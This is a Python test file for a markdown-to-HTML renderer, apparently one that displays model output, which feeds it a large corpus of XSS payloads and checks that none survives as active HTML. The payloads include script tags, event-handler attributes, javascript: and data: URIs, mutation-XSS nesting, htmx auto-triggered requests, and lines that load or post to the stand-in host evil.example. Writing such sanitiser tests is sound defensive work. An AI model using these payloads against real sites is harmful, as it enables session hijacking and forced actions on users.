"""What a model writes cannot act: every hostile text comes out as words."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from plumbline.collect import formulas
from plumbline.collect.render import LONGEST, TAGS, markdown

VECTORS = [
    "alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "//evil.example/x",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
]
LINKS = [f"[click]({vector})" for vector in VECTORS] + [f"<{vector}>" for vector in VECTORS]
REFERENCES = [f"[click][1]\n\n[1]: {vector} 'title'" for vector in VECTORS]
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<p hx-get=/accounts/logout/ hx-trigger=load>x</p>",
    "<p data-hx-post=/p/alpha/keys/new/ data-hx-trigger=load>x</p>",
    "<div hx-on:load='alert(1)'>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</main></body><script>alert(1)</script>",
    "<p id=main class=bar>x</p>",
    "<dialog open>x</dialog>",
]
MARKDOWN = [
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "> <svg onload=alert(1)>",
    "1. <iframe src=//evil.example>",
    '[a](https://ok.example "onmouseover=alert(1)")',
    "[a](https://ok.example '\"><script>alert(1)</script>')",
    '[a"onclick=alert(1)](https://ok.example/"onclick=alert(1))',
    '<https://ok.example/"onmouseover=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "{{ request.user }} {% debug %} ${7*7} <%= 1 %>",
]
PAYLOADS = LINKS + REFERENCES + HTML + MARKDOWN
FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"\(\style{position:fixed}{x}\)",
    r"\[\class{bar}{x} \color{red}{y}\]",
    r"$$\text{</math><script>alert(1)</script>}$$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$<svg onload=alert(1)>$",
    "$$\n</mtext><iframe src=//evil.example>\n$$",
    "```python\n</span><img src=x onerror=alert(1)>\n```",
    '```python" onclick="alert(1)\nx = 1\n```',
]
PAYLOADS += FORMULAS
ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "ol": {"start"},
    "span": {"class"},
    "table": {"tabindex"},
}


class Inspector(HTMLParser):
    """Reads HTML as a browser does and objects to whatever could act."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS | formulas.TAGS, tag
        allowed = (
            formulas.ATTRIBUTES | {"tabindex"} if tag in formulas.TAGS else ATTRIBUTES.get(tag, ())
        )
        for name, value in attrs:
            assert name in allowed, (tag, name)
            if name == "href":
                assert value.startswith(("http://", "https://")), value

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def handle_decl(self, decl):
        raise AssertionError("a declaration")

    handle_pi = unknown_decl = handle_decl


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "- item\n\n  {}", "**{}**"])
def test_no_text_can_act(payload, around):
    inspector = Inspector()
    inspector.feed(markdown(around.format(payload)))
    inspector.close()


def test_ordinary_markdown_reads_as_meant():
    html = markdown(
        "# T\n\n*a* **b** `c` ~~d~~\n\n3. x\n\n|a|\n|-|\n|1|\n\n[l](https://ok.example)"
    )
    for part in ("<h1>T", "<em>a", "<strong>b", "<code>c", "<s>d", 'start="3"', "<td>1"):
        assert part in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_very_long_text_is_shown_as_it_is():
    assert markdown("<b>" * LONGEST).startswith("<pre>&lt;b&gt;")


def test_deep_nesting_neither_hangs_nor_breaks():
    for text in ("> " * 3000 + "x", "[" * 5000, "*" * 5000 + "a", "- " * 3000 + "x", "`" * 9999):
        markdown(text)


@pytest.mark.parametrize(
    ("text", "display"),
    [
        (r"so $x^2$ is", "inline"),
        (r"so \(x^2\) is", "inline"),
        (r"so \[x^2\] is", "block"),
        (r"so $$x^2$$ is", "block"),
        ("$$\n- x^2\n$$", "block"),
    ],
)
def test_formulas_become_mathml(text, display):
    html = markdown(text)
    assert f'display="{display}">' in html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
    assert "$" not in html


@pytest.mark.parametrize("text", ["$5 and $10", "from $5-$10", "a $ b", "`$x^2$`", "US$ 5"])
def test_money_and_code_are_no_formulas(text):
    assert "<math" not in markdown(text)


def test_a_formula_that_cannot_be_read_is_shown_as_written():
    assert "<code>\\frac{</code>" in markdown(r"$\frac{$")


def test_code_is_highlighted_by_classes_alone():
    html = markdown("```python\ndef f(): return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style" not in html
    assert "<span" not in markdown("```nolanguage\ndef f()\n```")
